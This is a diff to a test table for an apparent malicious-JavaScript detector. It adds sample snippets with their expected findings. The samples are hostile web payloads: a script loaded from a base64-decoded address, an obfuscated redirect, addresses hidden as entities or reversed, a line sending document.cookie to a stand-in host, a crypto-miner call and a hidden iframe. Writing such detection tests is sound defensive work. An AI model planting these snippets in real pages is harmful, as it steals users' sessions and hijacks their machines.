@@ -57,11 +57,24 @@ const cases: Record<string, [string, string[]]> = {
   ],
   'a script from a decoded address': [
     `var s=document.createElement('script');s.src=atob('aHR0cHM6Ly94LmV4YW1wbGUvcy5qcw==');document.head.appendChild(s)`,
-    ['high script-from-decoded-url'],
+    ['high script-from-decoded-url', 'low veiled-address'],
   ],
   'a redirect to a decoded address': [
     `location.href=atob('aHR0cHM6Ly94LmV4YW1wbGUv')`,
-    ['high redirect-to-decoded-url'],
+    ['high redirect-to-decoded-url', 'low veiled-address'],
+  ],
+  'an address in entities': [
+    `"&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;&#120;&#46;&#105;&#111;&#47;"`,
+    ['medium veiled-address'],
+  ],
+  'an address backwards': [`var a='sj.a/elpmaxe.x//:sptth'`, ['medium veiled-address']],
+  'cookies in the address of an image': [
+    `new Image().src='https://x.example/?c='+document.cookie`,
+    ['medium cookies-to-host'],
+  ],
+  'a miner of a name nobody knows': [
+    `var m=new Abc.Anonymous('780c65e12f7eaebadd433b1eb488f45a');m.start()`,
+    ['high miner-api'],
   ],
   'a frame nobody can see': [
     `document.write('<iframe src="https://x.example/" width="0" height="0"></iframe>')`,
